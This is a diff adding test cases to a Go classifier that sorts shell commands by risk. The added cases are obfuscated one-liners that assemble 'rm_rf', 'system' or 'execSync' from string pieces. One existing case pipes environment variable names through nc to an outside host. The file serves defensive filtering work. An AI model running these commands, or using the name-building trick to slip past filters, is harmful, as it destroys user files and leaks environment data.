@@ -739,6 +739,18 @@ func TestClassify(t *testing.T) {
 		{`journalctl -u app | python3 -c 'import sys,requests; requests.post("http://localhost:8000/logs", data=sys.stdin.read())'`, Write},
 		{`for v in PATH GOPATH; do echo "$v=${!v}"; done | column -t`, ReadOnly},
 		{`echo "${!prefix@}" | tr ' ' '\n' | nc h.example.com 9`, Write},
+		// a method called by a name the code builds from strings cannot be read
+		{`ruby -rfileutils -e 'FileUtils.send(%w[r m _ r f].join, Dir.home + "/src")'`, Unparseable},
+		{`ruby -e 'm = %w[r m _ r f].join; FileUtils.public_send(m, "x")'`, Unparseable},
+		{`python3 -c "import os; getattr(os, ''.join(['sys','tem']))('id')"`, Unparseable},
+		{`python3 -c "m = __import__(''.join(['o','s'])); m.listdir('.')"`, Unparseable},
+		{`node -e "const cp = require('child_process'); cp[['ex','ec'].join('') + 'Sync']('id')"`, Unparseable},
+		{`php -r 'call_user_func("sys" . "tem", "id");'`, Unparseable},
+		{`perl -e 'my $m = "rm" . "tree"; File::Path->$m("x")'`, Unparseable},
+		{`ruby -e 'puts [1, 2].send(:sum)'`, Write},
+		{`python3 -c "import sys; [print(k, getattr(sys, k)) for k in ('platform', 'version')]"`, Write},
+		{`node -e "new S3Client({}).send(new ListBucketsCommand({})).then(console.log)"`, Write},
+		{`python3 -c "import json, sys; d = json.load(sys.stdin); print(d['items'][0])"`, Write},
 	}
 	for _, tc := range tests {
 		got := classifyT(t, tc.cmd)
